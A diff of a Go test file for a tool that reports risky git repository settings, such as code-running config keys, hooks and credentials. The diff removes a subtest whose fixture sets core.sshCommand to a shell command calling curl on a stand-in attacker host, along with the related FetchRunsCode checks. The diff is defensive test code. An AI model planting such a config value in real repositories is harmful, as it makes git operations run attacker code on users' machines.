@@ -42,15 +42,8 @@ func TestRepoFacts(t *testing.T) {
 	t.Run("plain", func(t *testing.T) {
 		dir := gitRepo(t, []string{"remote.origin.url", "https://github.com/a/b.git"}, []string{"user.name", "Ann"})
 		rf := NewFacts().Repo(filepath.Join(dir))
-		if rf.RunsCode != "" || rf.FetchRunsCode != "" || len(rf.Hooks) != 0 || len(rf.Credentials) != 0 {
+		if rf.RunsCode != "" || len(rf.Hooks) != 0 || len(rf.Credentials) != 0 {
 			t.Errorf("facts of a plain repository: %+v", rf)
-		}
-	})
-	t.Run("code for fetch alone", func(t *testing.T) {
-		dir := gitRepo(t, []string{"remote.origin.url", "https://github.com/a/b.git"}, []string{"core.sshCommand", "sh -c 'curl evil.example'"})
-		rf := NewFacts().Repo(filepath.Join(dir))
-		if rf.RunsCode != "" || rf.FetchRunsCode != "core.sshcommand" {
-			t.Errorf("RunsCode %q, FetchRunsCode %q; want none and core.sshcommand", rf.RunsCode, rf.FetchRunsCode)
 		}
 	})
 	t.Run("code, hooks, credentials", func(t *testing.T) {
@@ -66,8 +59,8 @@ func TestRepoFacts(t *testing.T) {
 			t.Fatal(err)
 		}
 		rf := NewFacts().Repo(filepath.Join(dir))
-		if rf.RunsCode != "core.fsmonitor" || rf.FetchRunsCode == "" {
-			t.Errorf("RunsCode = %q, FetchRunsCode = %q", rf.RunsCode, rf.FetchRunsCode)
+		if rf.RunsCode != "core.fsmonitor" {
+			t.Errorf("RunsCode = %q", rf.RunsCode)
 		}
 		if !slices.Equal(rf.Hooks, []string{"pre-commit"}) {
 			t.Errorf("Hooks = %q", rf.Hooks)
